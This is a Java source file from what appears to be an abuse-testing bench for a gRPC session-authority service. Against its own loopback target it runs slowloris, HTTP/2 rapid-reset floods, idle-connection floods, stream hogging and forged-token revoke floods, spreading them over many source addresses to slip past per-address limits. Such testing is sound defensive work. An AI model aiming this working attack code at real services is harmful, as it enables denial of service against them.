package io.sessionauthority.bench;

import io.grpc.ClientInterceptors;
import io.grpc.Context;
import io.grpc.ManagedChannel;
import io.grpc.Metadata;
import io.grpc.health.v1.HealthCheckRequest;
import io.grpc.health.v1.HealthCheckResponse;
import io.grpc.health.v1.HealthGrpc;
import io.grpc.netty.NettyChannelBuilder;
import io.grpc.stub.MetadataUtils;
import io.grpc.stub.StreamObserver;
import io.netty.bootstrap.Bootstrap;
import io.netty.buffer.ByteBuf;
import io.netty.channel.Channel;
import io.netty.channel.ChannelHandlerContext;
import io.netty.channel.EventLoopGroup;
import io.netty.channel.MultiThreadIoEventLoopGroup;
import io.netty.channel.nio.NioIoHandler;
import io.netty.channel.socket.nio.NioSocketChannel;
import io.netty.handler.codec.http2.DefaultHttp2Headers;
import io.netty.handler.codec.http2.Http2ConnectionHandler;
import io.netty.handler.codec.http2.Http2ConnectionHandlerBuilder;
import io.netty.handler.codec.http2.Http2Error;
import io.netty.handler.codec.http2.Http2FrameAdapter;
import io.netty.handler.codec.http2.Http2Headers;
import io.sessionauthority.v1.RevokeRequest;
import io.sessionauthority.v1.SessionAuthorityServiceGrpc;
import io.sessionauthority.v1.WatchRevocationsRequest;
import io.sessionauthority.v1.WatchRevocationsResponse;
import java.io.BufferedInputStream;
import java.io.IOException;
import java.io.InputStream;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.SocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.SelectionKey;
import java.nio.channels.Selector;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.security.SecureRandom;
import java.util.ArrayList;
import java.util.Base64;
import java.util.Iterator;
import java.util.List;
import java.util.Locale;
import java.util.concurrent.Semaphore;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.concurrent.atomic.AtomicLong;
import java.util.concurrent.locks.LockSupport;

/**
 * The availability attacks of issue 22, each as a hostile or noisy client would run it, from
 * loopback addresses of its own (127.0.x.y; Linux routes all of 127/8 to the loopback device) so
 * that per-address limits see it as another host than the legitimate callers on 127.0.0.1.
 */
final class Attacks {

    private Attacks() {
    }

    /**
     * Runs one attack in a process of its own (the abuse bench starts it under {@code nice -n 19}),
     * until the process is told to stop; then prints what it achieved on a line of its own.
     *
     * <pre>Attacks name grpcPort managementPort readerKey flooderKey victimUserId</pre>
     */
    public static void main(String[] args) throws InterruptedException {
        long began = System.nanoTime();
        Attack attack = start(args[0], new Target(Integer.parseInt(args[1]), Integer.parseInt(args[2]), args[3], args[4], args[5]));
        System.out.println(READY + TimeUnit.NANOSECONDS.toMillis(System.nanoTime() - began) + " ms");
        System.out.flush();
        Runtime.getRuntime().addShutdownHook(new Thread(() -> {
            String achieved = attack.achieved();
            attack.close();
            System.out.println(ACHIEVED + achieved);
            System.out.flush();
        }));
        Thread.sleep(Long.MAX_VALUE);
    }

    /** Marks the line an attack process prints as it stops. */
    static final String ACHIEVED = "ACHIEVED: ";
    /** Marks the line an attack process prints once its attack is set up (its streams opened, its threads started). */
    static final String READY = "READY after ";

    /** What an attack needs to know of its target. */
    record Target(int grpcPort, int managementPort, String readerKey, String flooderKey, String victimUserId) {
    }

    /** One attack, started and stopped around a measured window. */
    interface Attack extends AutoCloseable {
        String name();

        /** What the attacker achieved, in a few words. */
        String achieved();

        @Override
        void close();
    }

    static List<String> names() {
        return List.of("scrapers", "slowloris", "reconnecting-idle", "rapid-reset", "idle-connections", "stream-hog", "revoke-flood");
    }

    static Attack start(String name, Target target) {
        return switch (name) {
            case "scrapers" -> new Scrapers(target.managementPort(), 16);
            case "slowloris" -> new SocketFlood(name, "127.0.2.1", target.managementPort(), 80,
                    "GET /health/liveness HTTP/1.1\r\nHost: x\r\n", "X-a: b\r\n", 0, 1_000);
            case "reconnecting-idle" -> new SocketFlood(name, "127.0.2.2", target.managementPort(), 300, "", null, 1_000, 1_000);
            case "rapid-reset" -> new RapidReset(target.grpcPort(), 2, 5_000);
            case "idle-connections" -> new SocketFlood(name, "127.0.4.1", target.grpcPort(), 4_096, "", null, 0, 1_000);
            case "stream-hog" -> new StreamHog(target, 1_000);
            case "revoke-flood" -> new RevokeFlood(target, 32);
            default -> throw new IllegalArgumentException("no attack named " + name + "; known: " + names());
        };
    }

    private static Thread daemon(String name, Runnable body) {
        Thread thread = new Thread(body, name);
        thread.setDaemon(true);
        thread.start();
        return thread;
    }

    private static void join(Thread thread) {
        try {
            thread.join(10_000);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
        }
    }

    /** Keep-alive scrapers of /prometheus from addresses of their own, each scraping as fast as it can. */
    private static final class Scrapers implements Attack {
        private final AtomicBoolean stop = new AtomicBoolean();
        private final AtomicLong scrapes = new AtomicLong();
        private final AtomicLong bytes = new AtomicLong();
        private final List<Thread> threads = new ArrayList<>();

        Scrapers(int port, int count) {
            for (int i = 0; i < count; i++) {
                String source = "127.0.1." + (i + 1);
                threads.add(daemon("scraper-" + i, () -> {
                    while (!stop.get()) {
                        try (Socket socket = new Socket()) {
                            socket.bind(new InetSocketAddress(source, 0));
                            socket.connect(new InetSocketAddress("127.0.0.1", port), 2_000);
                            socket.setSoTimeout(5_000);
                            BufferedInputStream in = new BufferedInputStream(socket.getInputStream());
                            while (!stop.get()) {
                                socket.getOutputStream().write("GET /prometheus HTTP/1.1\r\nHost: x\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
                                bytes.addAndGet(readAnswer(in));
                                scrapes.incrementAndGet();
                            }
                        } catch (IOException cutOff) {
                            // reconnect
                        }
                    }
                }));
            }
        }

        @Override
        public String name() {
            return "scrapers";
        }

        @Override
        public String achieved() {
            return String.format(Locale.ROOT, "16 keep-alive scrapers: %,d scrapes served, %,d MB", scrapes.get(), bytes.get() >> 20);
        }

        @Override
        public void close() {
            stop.set(true);
            threads.forEach(Attacks::join);
        }
    }

    /** Reads one HTTP/1.1 answer with a content-length; answers its body's length. */
    static long readAnswer(InputStream in) throws IOException {
        StringBuilder headers = new StringBuilder();
        while (headers.length() < 4 || !headers.substring(headers.length() - 4).equals("\r\n\r\n")) {
            int b = in.read();
            if (b < 0) {
                throw new IOException("closed");
            }
            headers.append((char) b);
        }
        String lower = headers.toString().toLowerCase(Locale.ROOT);
        int at = lower.indexOf("content-length:");
        if (at < 0) {
            return 0;
        }
        int length = Integer.parseInt(lower.substring(at + 15, lower.indexOf('\r', at)).trim());
        return in.readNBytes(length).length;
    }

    /**
     * {@code count} sockets from {@code source} kept open against {@code port}: each sends
     * {@code opening} on connecting, then {@code trickle} once a second (slowloris) or nothing; one
     * the server closes is opened again at once, and with a {@code lifetimeMillis} each is closed and
     * opened again that often (reconnecting idle sockets). At most {@code opensPerSecond} are opened
     * a second: the flood is the connections it holds, not a SYN flood (which belongs to the network).
     */
    private static final class SocketFlood implements Attack {
        private final String name;
        private final AtomicBoolean stop = new AtomicBoolean();
        private final AtomicLong opened = new AtomicLong();
        private final AtomicLong closedByServer = new AtomicLong();
        private final Thread thread;

        SocketFlood(String name, String source, int port, int count, String opening, String trickle, long lifetimeMillis,
                    int opensPerSecond) {
            this.name = name;
            this.thread = daemon(name, () -> run(source, port, count, opening.getBytes(StandardCharsets.US_ASCII),
                    trickle == null ? null : trickle.getBytes(StandardCharsets.US_ASCII), lifetimeMillis, opensPerSecond));
        }

        private void run(String source, int port, int count, byte[] opening, byte[] trickle, long lifetimeMillis, int opensPerSecond) {
            try (Selector selector = Selector.open()) {
                long nextTrickle = System.nanoTime();
                long opensBegan = System.nanoTime();
                long opens = 0;
                ByteBuffer sink = ByteBuffer.allocate(64 * 1024);
                while (!stop.get()) {
                    long allowed = (System.nanoTime() - opensBegan) * opensPerSecond / 1_000_000_000L + 1;
                    while (selector.keys().size() < count && opens < allowed && !stop.get()) {
                        open(selector, source, port, opening);
                        opens++;
                    }
                    selector.select(50);
                    for (Iterator<SelectionKey> it = selector.selectedKeys().iterator(); it.hasNext(); ) {
                        SelectionKey key = it.next();
                        it.remove();
                        SocketChannel socket = (SocketChannel) key.channel();
                        try {
                            sink.clear();
                            if (socket.read(sink) < 0) {
                                closedByServer.incrementAndGet();
                                key.cancel();
                                socket.close();
                            }
                        } catch (IOException reset) {
                            closedByServer.incrementAndGet();
                            key.cancel();
                            closeQuietly(socket);
                        }
                    }
                    long now = System.nanoTime();
                    if (trickle != null && now >= nextTrickle) {
                        nextTrickle = now + TimeUnit.SECONDS.toNanos(1);
                        for (SelectionKey key : selector.keys()) {
                            try {
                                ((SocketChannel) key.channel()).write(ByteBuffer.wrap(trickle));
                            } catch (IOException closed) {
                                key.cancel();
                                closeQuietly((SocketChannel) key.channel());
                            }
                        }
                    }
                    if (lifetimeMillis > 0) {
                        for (SelectionKey key : selector.keys()) {
                            if (now - (long) key.attachment() > TimeUnit.MILLISECONDS.toNanos(lifetimeMillis)) {
                                key.cancel();
                                closeQuietly((SocketChannel) key.channel());
                            }
                        }
                    }
                    selector.selectNow(); // flush cancelled keys
                }
                for (SelectionKey key : selector.keys()) {
                    closeQuietly((SocketChannel) key.channel());
                }
            } catch (IOException e) {
                throw new IllegalStateException(e);
            }
        }

        private void open(Selector selector, String source, int port, byte[] opening) {
            SocketChannel socket = null;
            try {
                socket = SocketChannel.open();
                socket.bind(new InetSocketAddress(source, 0));
                socket.connect(new InetSocketAddress("127.0.0.1", port));
                if (opening.length > 0) {
                    socket.write(ByteBuffer.wrap(opening));
                }
                socket.configureBlocking(false);
                socket.register(selector, SelectionKey.OP_READ, System.nanoTime());
                opened.incrementAndGet();
            } catch (IOException refused) {
                closedByServer.incrementAndGet();
                if (socket != null) {
                    closeQuietly(socket);
                }
            }
        }

        private static void closeQuietly(SocketChannel socket) {
            try {
                socket.close();
            } catch (IOException ignored) {
                // closing anyway
            }
        }

        @Override
        public String name() {
            return name;
        }

        @Override
        public String achieved() {
            return String.format(Locale.ROOT, "%,d connections opened, %,d closed or refused by the server", opened.get(), closedByServer.get());
        }

        @Override
        public void close() {
            stop.set(true);
            join(thread);
        }
    }

    /**
     * HTTP/2 connections opening health Check streams and resetting them at once, {@code pairsPerSecond}
     * each (the figure issue 22 measured: 120k pairs in 12 s over two connections), reconnecting when
     * cut off.
     */
    private static final class RapidReset implements Attack {
        private final AtomicBoolean stop = new AtomicBoolean();
        private final AtomicLong pairs = new AtomicLong();
        private final AtomicLong goAways = new AtomicLong();
        private final AtomicLong connections = new AtomicLong();
        private final EventLoopGroup group = new MultiThreadIoEventLoopGroup(1, NioIoHandler.newFactory());
        private final List<Thread> threads = new ArrayList<>();
        private final Http2Headers headers = new DefaultHttp2Headers()
                .method("POST").scheme("http").authority("localhost").path("/grpc.health.v1.Health/Check")
                .set("content-type", "application/grpc").set("te", "trailers");

        private final int pairsPerSecond;
        private final int count;

        RapidReset(int port, int count, int pairsPerSecond) {
            this.pairsPerSecond = pairsPerSecond;
            this.count = count;
            for (int i = 0; i < count; i++) {
                threads.add(daemon("rapid-reset-" + i, () -> {
                    long began = System.nanoTime();
                    while (!stop.get()) {
                        attackOnce(port, began);
                        LockSupport.parkNanos(TimeUnit.MILLISECONDS.toNanos(10)); // a refused reconnect is not retried in a spin
                    }
                }));
            }
        }

        private void attackOnce(int port, long began) {
            Http2ConnectionHandler http2 = new Http2ConnectionHandlerBuilder().server(false)
                    .frameListener(new Http2FrameAdapter() {
                        @Override
                        public void onGoAwayRead(ChannelHandlerContext context, int lastStreamId, long errorCode, ByteBuf debugData) {
                            goAways.incrementAndGet();
                        }
                    }).build();
            try {
                Channel connection = new Bootstrap().group(group).channel(NioSocketChannel.class).handler(http2)
                        .localAddress(new InetSocketAddress("127.0.3.1", 0))
                        .connect("127.0.0.1", port).sync().channel();
                connections.incrementAndGet();
                ChannelHandlerContext context = connection.pipeline().context(http2);
                int stream = 3;
                while (!stop.get() && connection.isActive() && stream < Integer.MAX_VALUE - 100) {
                    int first = stream;
                    stream += 100;
                    long due = began + (pairs.get() / count) * 1_000_000_000L / pairsPerSecond;
                    LockSupport.parkNanos(due - System.nanoTime());
                    // 50 pairs per flush; wait for the write so the attacker is bound by the socket, not its memory.
                    connection.eventLoop().submit(() -> {
                        for (int id = first; id < first + 100; id += 2) {
                            http2.encoder().writeHeaders(context, id, headers, 0, false, context.newPromise());
                            http2.encoder().writeRstStream(context, id, Http2Error.CANCEL.code(), context.newPromise());
                        }
                        context.flush();
                    }).sync();
                    pairs.addAndGet(50);
                }
                connection.close().sync();
            } catch (Exception refusedOrInterrupted) {
                if (Thread.currentThread().isInterrupted()) {
                    stop.set(true);
                }
            }
        }

        @Override
        public String name() {
            return "rapid-reset";
        }

        @Override
        public String achieved() {
            return String.format(Locale.ROOT, "%,d HEADERS+RST pairs sent over %,d connections, %,d GOAWAYs", pairs.get(), connections.get(),
                    goAways.get());
        }

        @Override
        public void close() {
            stop.set(true);
            threads.forEach(Attacks::join);
            group.shutdownGracefully(0, 1, TimeUnit.SECONDS);
        }
    }

    /** A channel whose connections come from {@code source}, presenting {@code apiKey} when not null. */
    static ManagedChannel channelFrom(String source, int port) {
        return NettyChannelBuilder.forAddress("127.0.0.1", port).usePlaintext()
                .localSocketPicker(new NettyChannelBuilder.LocalSocketPicker() {
                    @Override
                    public SocketAddress createSocketAddress(SocketAddress remote, io.grpc.Attributes attributes) {
                        return new InetSocketAddress(source, 0);
                    }
                }).build();
    }

    static io.grpc.Channel withKey(io.grpc.Channel channel, String apiKey) {
        Metadata headers = new Metadata();
        headers.put(Metadata.Key.of("x-api-key", Metadata.ASCII_STRING_MARSHALLER), apiKey);
        return ClientInterceptors.intercept(channel, MetadataUtils.newAttachHeadersInterceptor(headers));
    }

    /**
     * One validate-only caller ("reader") opening 1,000 WatchRevocations streams from forty addresses
     * (enough to reach its caller's share, not only one address' share), and an unauthenticated
     * client 1,000 health Watch streams from one more; all held until the end.
     */
    private static final class StreamHog implements Attack {
        private final List<ManagedChannel> channels = new ArrayList<>();
        private final List<Context.CancellableContext> streams = new ArrayList<>();
        private final AtomicLong revocationStreams = new AtomicLong();
        private final AtomicLong healthStreams = new AtomicLong();

        StreamHog(Target target, int count) {
            for (int i = 0; i < 40; i++) {
                channels.add(channelFrom("127.0.5." + (i + 1), target.grpcPort()));
            }
            ManagedChannel anonymous = channelFrom("127.0.5.99", target.grpcPort());
            channels.add(anonymous);
            for (int i = 0; i < count; i++) {
                var stub = SessionAuthorityServiceGrpc.newStub(withKey(channels.get(i % 40), target.readerKey()));
                Context.CancellableContext context = Context.current().withCancellation();
                streams.add(context);
                context.run(() -> stub.watchRevocations(WatchRevocationsRequest.getDefaultInstance(), counting(revocationStreams)));
                Context.CancellableContext health = Context.current().withCancellation();
                streams.add(health);
                health.run(() -> HealthGrpc.newStub(anonymous).watch(HealthCheckRequest.getDefaultInstance(), counting(healthStreams)));
            }
        }

        /** Counts a stream once, at its first message: a stream the service refused never gets one. */
        private static <T> StreamObserver<T> counting(AtomicLong accepted) {
            return new StreamObserver<>() {
                private boolean counted;

                @Override
                public void onNext(T value) {
                    if (!counted) {
                        counted = true;
                        accepted.incrementAndGet();
                    }
                }

                @Override
                public void onError(Throwable error) {
                }

                @Override
                public void onCompleted() {
                }
            };
        }

        @Override
        public String name() {
            return "stream-hog";
        }

        @Override
        public String achieved() {
            return String.format(Locale.ROOT, "one caller holds %,d of 1,000 WatchRevocations streams tried; one address %,d of 1,000"
                    + " health Watch streams", revocationStreams.get(), healthStreams.get());
        }

        @Override
        public void close() {
            streams.forEach(context -> context.cancel(null));
            channels.forEach(ManagedChannel::shutdownNow);
        }
    }

    /** A login-permitted caller ("flooder") revoking forged, well-formed tokens of a real user, 32 at a time, as fast as it can. */
    private static final class RevokeFlood implements Attack {
        private final AtomicBoolean stop = new AtomicBoolean();
        private final AtomicLong answered = new AtomicLong();
        private final AtomicLong refused = new AtomicLong();
        private final ManagedChannel channel;
        private final Thread thread;

        RevokeFlood(Target target, int inFlight) {
            channel = channelFrom("127.0.6.1", target.grpcPort());
            var stub = SessionAuthorityServiceGrpc.newFutureStub(withKey(channel, target.flooderKey()));
            SecureRandom random = new SecureRandom();
            byte[] user = Base64.getUrlDecoder().decode(target.victimUserId());
            Semaphore slots = new Semaphore(inFlight);
            thread = daemon("revoke-flood", () -> {
                while (!stop.get()) {
                    try {
                        if (!slots.tryAcquire(100, TimeUnit.MILLISECONDS)) {
                            continue;
                        }
                    } catch (InterruptedException e) {
                        return;
                    }
                    byte[] token = new byte[48];
                    System.arraycopy(user, 0, token, 0, 16);
                    byte[] secret = new byte[32];
                    random.nextBytes(secret);
                    System.arraycopy(secret, 0, token, 16, 32);
                    var call = stub.withDeadlineAfter(5, TimeUnit.SECONDS).revoke(RevokeRequest.newBuilder()
                            .setToken("sat1_" + Base64.getUrlEncoder().withoutPadding().encodeToString(token)).build());
                    call.addListener(() -> {
                        try {
                            call.get();
                            answered.incrementAndGet();
                        } catch (Exception e) {
                            refused.incrementAndGet();
                        }
                        slots.release();
                    }, Runnable::run);
                }
            });
        }

        @Override
        public String name() {
            return "revoke-flood";
        }

        @Override
        public String achieved() {
            return String.format(Locale.ROOT, "%,d forged revokes answered, %,d refused", answered.get(), refused.get());
        }

        @Override
        public void close() {
            stop.set(true);
            join(thread);
            channel.shutdownNow();
        }
    }

    /** Subscribes as {@code apiKey}'s caller; answers whether the first heartbeat came within two seconds. */
    static boolean subscribes(io.grpc.Channel channel, String apiKey) {
        java.util.concurrent.CompletableFuture<Boolean> first = new java.util.concurrent.CompletableFuture<>();
        Context.CancellableContext context = Context.current().withCancellation();
        try {
            context.run(() -> SessionAuthorityServiceGrpc.newStub(withKey(channel, apiKey)).watchRevocations(
                    WatchRevocationsRequest.getDefaultInstance(), new StreamObserver<WatchRevocationsResponse>() {
                        @Override
                        public void onNext(WatchRevocationsResponse value) {
                            first.complete(true);
                        }

                        @Override
                        public void onError(Throwable error) {
                            first.complete(false);
                        }

                        @Override
                        public void onCompleted() {
                            first.complete(false);
                        }
                    }));
            return first.get(2, TimeUnit.SECONDS);
        } catch (Exception timedOut) {
            return false;
        } finally {
            context.cancel(null);
        }
    }

    /** One health Check over a new connection, as a newly started client makes it. */
    static boolean newConnectionAnswers(int port) {
        ManagedChannel channel = NettyChannelBuilder.forAddress("127.0.0.1", port).usePlaintext().build();
        try {
            return HealthGrpc.newBlockingStub(channel).withDeadlineAfter(2, TimeUnit.SECONDS).check(HealthCheckRequest.getDefaultInstance())
                    .getStatus() == HealthCheckResponse.ServingStatus.SERVING;
        } catch (RuntimeException failed) {
            return false;
        } finally {
            channel.shutdownNow();
        }
    }
}
